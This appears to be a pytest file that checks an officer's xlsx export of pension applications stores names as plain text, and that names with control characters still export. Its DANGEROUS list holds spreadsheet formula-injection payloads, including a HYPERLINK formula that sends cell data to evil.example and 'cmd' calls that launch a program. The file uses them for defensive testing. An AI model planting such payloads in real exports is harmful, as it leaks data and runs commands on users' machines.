"""Safe exports (issue 9 part 6): data never becomes an xlsx formula, and no name, whatever
characters it holds, breaks an export. Runs on SQLite and PostgreSQL."""

from __future__ import annotations

import io
from datetime import UTC, datetime

import pytest
from openpyxl import load_workbook

from tests import factories as f
from tests.web.officer_helpers import pension_app

API = "/api/v1/officer"

#: OWASP's CSV-injection starters, each followed by a payload a spreadsheet would run.
DANGEROUS = [
    '=HYPERLINK("http://evil.example/?"&A2,"详情")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _export(client, headers) -> list:
    r = client.get(f"{API}/applications.xlsx", headers=headers)
    assert r.status_code == 200, r.text
    return load_workbook(io.BytesIO(r.content)).active


@pytest.mark.parametrize("name", DANGEROUS)
def test_a_name_that_starts_a_formula_is_exported_as_text_not_as_a_formula(
    client, login, session_factory, name
):
    with session_factory() as s, s.begin():
        officer = f.make_officer(s, region="420700")
        person = f.make_person(s, region="420703", name=name)
        pension_app(s, person=person, at=datetime(2026, 3, 6, 10, 0, tzinfo=UTC))
    sheet = _export(client, login("officer", officer.id))

    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells), "no cell is a formula"
    (payer,) = [c for c in sheet["C"][1:]]
    assert payer.data_type == "s"
    # The data itself, unchanged (XML reads a stored CR back as LF).
    assert payer.value == name.replace("\r", "\n")
    assert payer.quotePrefix  # and Excel keeps it text when the cell is edited


@pytest.mark.parametrize("name", ["邱世\x07贵", "邱世贵\x1b[0m", "邱\x01世贵", "\x0b邱世贵"])
def test_a_name_with_a_control_character_does_not_break_the_export(
    client, login, session_factory, name
):
    with session_factory() as s, s.begin():
        officer = f.make_officer(s, region="420700")
        pension_app(s, person=f.make_person(s, region="420703", name=name))
        pension_app(s, person=f.make_person(s, region="420703", name="李伊岚"))
    sheet = _export(client, login("officer", officer.id))

    names = sorted(c.value for c in sheet["C"][1:])
    assert len(names) == 2 and "李伊岚" in names
    odd = next(n for n in names if n != "李伊岚")
    # The row is there; the character a worksheet cannot hold is shown replaced.
    assert odd == "".join("\ufffd" if ord(c) < 0x20 else c for c in name)
